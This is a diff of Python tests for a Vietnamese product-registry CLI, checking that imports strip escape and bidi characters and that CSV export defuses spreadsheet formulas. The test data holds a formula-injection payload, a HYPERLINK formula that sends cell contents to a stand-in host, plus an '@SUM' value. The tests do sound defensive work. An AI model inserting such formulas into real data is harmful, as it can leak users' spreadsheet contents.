@@ -22,7 +22,9 @@ def test_dry_run_prints_no_escape_codes_or_bidi_overrides_from_a_package(offices
     with zipfile.ZipFile(tmp_path / "goi.ocop.zip") as zf:
         body = zf.read("data/survey_entries.json").decode()
     body = body.replace("Chè Shan tuyết", json.dumps(HOSTILE_NAME)[1:-1])
-    bad = rebuild(tmp_path / "goi.ocop.zip", tmp_path / "la.ocop.zip", change={"data/survey_entries.json": body.encode()})
+    bad = rebuild(
+        tmp_path / "goi.ocop.zip", tmp_path / "la.ocop.zip", change={"data/survey_entries.json": body.encode()}
+    )
     dry = ocop("--db", district, "package", "import", bad, "--dry-run")
     assert dry.returncode == 0, dry.stderr
     assert "\x1b" not in dry.stdout and "\u202e" not in dry.stdout and "\u202c" not in dry.stdout
@@ -34,7 +36,7 @@ def test_dry_run_prints_no_escape_codes_or_bidi_overrides_from_a_package(offices
 
 
 def _products(make_uow):
-    for name in ("Rượu ngô 100%", "Rượu ngô 40 độ", "=HYPERLINK(\"http://x.vn/?\"&A1,\"Bấm\")", "@SUM(1+1)"):
+    for name in ("Rượu ngô 100%", "Rượu ngô 40 độ", '=HYPERLINK("http://x.vn/?"&A1,"Bấm")', "@SUM(1+1)"):
         ProductService(make_uow).create(ProductInput(name=name))
 
 
@@ -49,8 +51,9 @@ def test_searches_take_wildcards_literally_and_refuse_a_huge_text(tmp_path):
     for command in (("products", "list"), ("audit",)):
         refused = ocop("--db", path, *command, "--search", "x" * 50_000)
         assert refused.returncode == 1
-        assert refused.stderr.strip() == ("Lỗi: Nội dung tìm kiếm dài 50.000 ký tự, vượt giới hạn 200 ký tự; "
-                                          "hãy gõ một phần của tên cần tìm.")
+        assert refused.stderr.strip() == (
+            "Lỗi: Nội dung tìm kiếm dài 50.000 ký tự, vượt giới hạn 200 ký tự; hãy gõ một phần của tên cần tìm."
+        )
 
 
 def test_csv_output_makes_formulas_text(tmp_path):
@@ -58,10 +61,10 @@ def test_csv_output_makes_formulas_text(tmp_path):
     done = ocop("--db", path, "products", "list", "--format", "csv")
     assert done.returncode == 0, done.stderr
     names = [row["name"] for row in csv.DictReader(io.StringIO(done.stdout))]
-    assert "'=HYPERLINK(\"http://x.vn/?\"&A1,\"Bấm\")" in names and "'@SUM(1+1)" in names
+    assert '\'=HYPERLINK("http://x.vn/?"&A1,"Bấm")' in names and "'@SUM(1+1)" in names
     assert "Rượu ngô 100%" in names
     as_json = [p["name"] for p in json.loads(ocop("--db", path, "products", "list").stdout)]
-    assert "=HYPERLINK(\"http://x.vn/?\"&A1,\"Bấm\")" in as_json  # JSON is for scripts: exact
+    assert '=HYPERLINK("http://x.vn/?"&A1,"Bấm")' in as_json  # JSON is for scripts: exact
 
 
 def test_an_export_without_office_settings_is_refused_in_words_not_keys(tmp_path):
